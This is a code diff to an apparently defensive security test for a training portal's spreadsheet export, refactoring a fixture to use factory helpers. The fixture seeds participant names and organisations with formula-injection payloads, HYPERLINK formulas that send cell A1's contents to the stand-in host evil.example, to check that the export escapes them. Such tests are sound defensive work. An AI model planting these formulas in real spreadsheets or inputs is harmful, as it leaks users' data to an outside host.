@@ -9,12 +9,10 @@ from openpyxl import load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from sqlalchemy import select
 
+from tests.factories import attend, make_attempt, make_participant
 from tests.security.conftest import client_for
-from training_portal.attendance import summary
-from training_portal.attendance.models import AgeBand, Attendance, CheckInMethod, Participant, Sex
 from training_portal.auth.models import AuditLog
 from training_portal.extensions import db
-from training_portal.quizzes.models import Phase, QuizAttempt
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = [f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"Sokha\")" for trigger in TRIGGERS]
@@ -29,16 +27,10 @@ KNOWN_GAPS: set[str] = set()
 def tricky(app, world):
     """Participants whose names and organisations try to run formulas or break the file."""
     for number, text in enumerate(PAYLOADS):
-        person = Participant(name=text, organisation=text, sex=Sex.MALE, age_band=AgeBand.AGE_18_24,
-                             target_group_id=world.participant.target_group_id)
-        db.session.add(person)
-        db.session.flush()
-        db.session.add(Attendance(participant_id=person.id, session_id=world.session.id,
-                                  method=CheckInMethod.WALK_IN, idempotency_key=f"tricky-{number}"))
-        summary.add(world.event, person)
-        for phase in (Phase.PRE, Phase.POST):
-            db.session.add(QuizAttempt(participant_id=person.id, event_id=world.event.id, quiz_id=world.quiz.id,
-                                       phase=phase, score=100.0, correct_count=1, question_count=1))
+        person = make_participant(name=text, organisation=text, sex="male", age_band="18_24", group="hotel_staff")
+        attend(person, world.session, method="walk_in")
+        for phase in ("pre", "post"):
+            make_attempt(person, world.event, phase, 100.0, quiz=world.quiz)
     db.session.commit()
     return world
 
